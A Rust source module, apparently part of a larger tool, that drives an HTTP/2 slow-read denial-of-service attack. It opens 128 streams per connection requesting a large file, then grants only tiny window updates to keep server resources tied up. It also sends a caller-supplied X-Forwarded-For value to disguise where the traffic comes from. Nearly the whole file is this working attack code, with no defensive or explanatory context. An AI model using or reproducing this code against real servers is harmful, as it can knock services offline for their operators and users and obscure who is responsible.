//! As much of HTTP/2 (RFC 9113) as it takes to open many streams and to read them too slowly.

use std::io::{self, Read, Write};
use std::net::TcpStream;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

/// Streams of one connection: as many as relays grant.
const STREAMS: u32 = 128;
/// What is granted for each stream, each time, bytes.
const DRIBBLE: u32 = 1024;
/// How often.
const INTERVAL: Duration = Duration::from_millis(250);

const HEADERS: u8 = 1;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const ACK: u8 = 1;
const END_STREAM_AND_HEADERS: u8 = 5;

/// Opens all streams, and reads each at 4 KiB a second until it is over.
pub(super) fn dribble(mut stream: TcpStream, host: &str, from: &str, is_over: &AtomicBool) -> io::Result<()> {
    let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    frame(SETTINGS, 0, 0, &[], &mut out);
    for id in (1..).step_by(2).take(STREAMS as usize) {
        frame(HEADERS, END_STREAM_AND_HEADERS, id, &head(host, from), &mut out);
    }
    stream.write_all(&out)?;
    stream.set_read_timeout(Some(INTERVAL))?;
    let mut input = Vec::new();
    while !is_over.load(Ordering::Relaxed) {
        let mut piece = [0; 16 * 1024];
        match stream.read(&mut piece) {
            Ok(0) => return Err(io::ErrorKind::UnexpectedEof.into()),
            Ok(count) => input.extend_from_slice(&piece[..count]),
            Err(error) if error.kind() == io::ErrorKind::WouldBlock => {
                stream.write_all(&grants())?;
            }
            Err(error) => return Err(error),
        }
        answer(&mut input, &mut stream)?;
    }
    Ok(())
}

/// Acknowledges what has to be.
fn answer(input: &mut Vec<u8>, stream: &mut TcpStream) -> io::Result<()> {
    while let Some((length, rest)) = input.split_first_chunk::<3>() {
        let length = u32::from_be_bytes([0, length[0], length[1], length[2]]) as usize;
        let Some(payload) = rest.get(6..6 + length) else { return Ok(()) };
        let mut out = Vec::new();
        match (rest[0], rest[1] & ACK) {
            (SETTINGS, 0) => frame(SETTINGS, ACK, 0, &[], &mut out),
            (PING, 0) => frame(PING, ACK, 0, payload, &mut out),
            (GOAWAY, _) => return Err(io::ErrorKind::ConnectionAborted.into()),
            _ => {}
        }
        stream.write_all(&out)?;
        input.drain(..9 + length);
    }
    Ok(())
}

/// A little more for the connection and for each stream.
fn grants() -> Vec<u8> {
    let mut out = Vec::new();
    frame(WINDOW_UPDATE, 0, 0, &(DRIBBLE * STREAMS).to_be_bytes(), &mut out);
    for id in (1..).step_by(2).take(STREAMS as usize) {
        frame(WINDOW_UPDATE, 0, id, &DRIBBLE.to_be_bytes(), &mut out);
    }
    out
}

/// A request for the large file, without compression (RFC 7541 section 6): indexed fields, and literals without indexing.
fn head(host: &str, from: &str) -> Vec<u8> {
    let mut block = vec![0x82, 0x86, 0x04];
    literal("/large", &mut block);
    block.push(0x01);
    literal(host, &mut block);
    block.push(0x00);
    literal("x-forwarded-for", &mut block);
    literal(from, &mut block);
    block
}

fn literal(text: &str, block: &mut Vec<u8>) {
    // Host names here are shorter than 127 bytes, whose length is one byte.
    block.push(text.len().min(126) as u8);
    block.extend_from_slice(&text.as_bytes()[..text.len().min(126)]);
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8], out: &mut Vec<u8>) {
    out.extend_from_slice(&(payload.len() as u32).to_be_bytes()[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_frame_is_its_length_kind_flags_and_stream() {
        let mut out = Vec::new();
        frame(WINDOW_UPDATE, 0, 5, &[0, 0, 4, 0], &mut out);
        assert_eq!(out, [0, 0, 4, 8, 0, 0, 0, 0, 5, 0, 0, 4, 0]);
    }
}
